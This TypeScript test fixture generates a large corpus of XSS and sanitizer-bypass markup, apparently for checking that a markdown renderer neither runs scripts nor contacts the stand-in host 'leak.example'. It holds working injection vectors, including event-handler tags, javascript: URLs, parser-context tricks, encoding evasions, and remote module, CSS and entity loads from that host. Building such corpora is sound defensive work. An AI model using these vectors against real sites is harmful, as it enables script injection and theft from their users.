/**
 * Markup that has run scripts, loaded something, or left its element in browsers and sanitizers, written from what the
 * public collections (html5sec.org, DOMPurify's tests, OWASP's cheat sheet) say works: which attributes run or load,
 * which elements change how the rest is parsed. `CALL` is what must never run, `HOST` what must never be asked.
 */
export const CALL = "window.markdown.calls.push(['executed'])";
const HOST = 'leak.example';

const handlers = (
  'abort afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut ' +
  'beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload begin blur bounce cancel canplay ' +
  'canplaythrough change click close command contextmenu contentvisibilityautostatechange copy cuechange cut dblclick ' +
  'drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange end ended error finish focus ' +
  'focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup load ' +
  'loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove ' +
  'mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown ' +
  'pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ' +
  'propertychange ratechange readystatechange repeat reset resize scroll scrollend scrollsnapchange search ' +
  'securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage ' +
  'submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend ' +
  'transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend ' +
  'webkitmouseforceup webkittransitionend wheel zoom'
).split(' ');
const handlerTags = [
  (on: string) => `<img src=x ${on}="${CALL}">`,
  (on: string) => `<svg ${on}=${CALL}>`,
  (on: string) => `<input autofocus tabindex=1 ${on}='${CALL}'>`,
  (on: string) => `<details open/${on}="${CALL}">`,
  (on: string) => `<video/${on}="${CALL}"><source src=x ${on}="${CALL}">`,
];

/** Attributes that load something or lead somewhere, with the elements on which they do it. */
const loading: readonly (readonly [attribute: string, elements: string])[] = [
  ['src', 'img iframe frame script embed audio video source track input image bgsound layer xml'],
  ['srcset', 'img source'],
  ['href', 'link base image use a area script'],
  ['xlink:href', 'image use a script feImage animate'],
  ['data', 'object'],
  ['poster', 'video'],
  ['background', 'body table td'],
  ['action', 'form'],
  ['formaction', 'button input'],
  ['ping', 'a'],
  ['manifest', 'html'],
  ['code', 'applet'],
  ['codebase', 'applet object'],
  ['archive', 'object'],
  ['classid', 'object'],
  ['cite', 'blockquote q ins del'],
  ['longdesc', 'img'],
  ['profile', 'head'],
  ['usemap', 'img'],
  ['dynsrc', 'img'],
  ['lowsrc', 'img'],
  ['content', 'meta http-equiv=refresh'],
  ['imagesrcset', 'link rel=preload as=image'],
  ['style', 'div p li'],
];

/** Nested elements after which the rest is parsed differently: sanitizers have been tricked with these. */
const contexts = (
  'style script title textarea noscript xmp iframe noembed noframes plaintext template select option svg math mtext ' +
  'mglyph malignmark annotation-xml desc foreignObject table caption colgroup form frameset body button a p'
).split(' ');

const urls = [`https://${HOST}/x`, `//${HOST}/x`, `javascript:${CALL}`, `data:text/html,<script>${CALL}</script>`];

/** Lines with their own trick. */
const singles = [
  `<script>${CALL}</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<SCRIPT\n>${CALL}</SCRIPT\n>`,
  `<script/x>${CALL}</script>`,
  `\u003cscript>${CALL}\u003c/script>`,
  `<script type=module>import 'https://${HOST}/m.js'</script>`,
  `<svg><script>${CALL.replaceAll('(', '&#40;')}</script></svg>`,
  `<svg><animate attributeName=href values="javascript:${CALL}" /><a id=x>x</a></svg>`,
  `<svg><set attributeName="onmouseover" to="${CALL}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"/></svg>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<math><maction actiontype="statusline#https://${HOST}" xlink:href="javascript:${CALL}">x</maction></math>`,
  `<iframe srcdoc="&lt;script&gt;parent.${CALL}&lt;/script&gt;"></iframe>`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<style>@import '//${HOST}/s.css';*{background:url(//${HOST}/b);behavior:url(x.htc);x:expression(${CALL})}</style>`,
  `<p style="background-image:url(//${HOST}/b);-moz-binding:url(//${HOST}/x.xml#x)">x</p>`,
  `<link rel=dns-prefetch href=//${HOST}><link rel=preconnect href=//${HOST}>`,
  `<!--[if IE]><script>${CALL}</script><![endif]-->`,
  `<!-- --!><img src=x onerror="${CALL}">`,
  `<!--><svg onload="${CALL}">-->`,
  `<![CDATA[<img src=x onerror="${CALL}">]]>`,
  `<!DOCTYPE x [<!ENTITY a SYSTEM "https://${HOST}/e">]><x>&a;</x>`,
  `<?xml-stylesheet href="javascript:${CALL}"?>`,
  `<?php echo 1 ?><img src=x onerror=${CALL}>`,
  `<% ${CALL} %>{{constructor.constructor('${CALL}')()}}\${${CALL}}`,
  `<img name=getElementById><form name=body><input name=attributes><a id=markdown name=calls href=x>x</a>`,
  `<form id=x></form><button form=x formaction="javascript:${CALL}">x</button>`,
  `<a href="javascript:${CALL}" target=_blank rel=opener download>x</a>`,
  `<a href=\u0001javascript:${CALL}>x</a><a href="java\tscript:${CALL}">x</a>`,
  `<div id="x" is="x-y" slot=x part=x popover autofocus contenteditable>x</div>`,
  `<dialog open><button popovertarget=x command=show-modal commandfor=x>x</button></dialog>`,
  `<portal src=https://${HOST}></portal><fencedframe src=https://${HOST}></fencedframe>`,
  `<img src=x:x onerror\u000b=${CALL}><img/src/onerror=${CALL}><img src="x\`><script>${CALL}</script>"\`>`,
  `<b <script>${CALL}</script>>x</b>`,
  `<a title="</a><img src=x onerror=${CALL}>">x</a>`,
  `\`\`<img src=x onerror=${CALL}>\`\``,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `¼script¾${CALL}¼/script¾`,
  `<\u0000script>${CALL}</\u0000script>`,
  `\u202e<img src=x onerror="${CALL}">\u202c`,
];

export const markupVectors: readonly string[] = [
  ...singles,
  ...handlers.flatMap((name) => handlerTags.map((tag) => tag(`on${name}`))),
  ...loading.flatMap(([attribute, elements]) =>
    elements
      .split(/ (?![a-z-]+=)/)
      .flatMap((name) =>
        urls.map((url) =>
          attribute === 'content'
            ? `<${name} content="0;url=${url}">`
            : attribute === 'style'
              ? `<${name} style="background:url('${url}')">x</${name}>`
              : `<${name} ${attribute}="${url}">x</${name.split(' ')[0]}>`,
        ),
      ),
  ),
  ...contexts.flatMap((outer) =>
    contexts.map(
      (inner) => `<${outer}><${inner}><img title="</${inner}></${outer}><img src=x onerror=${CALL}>"></${inner}>`,
    ),
  ),
];
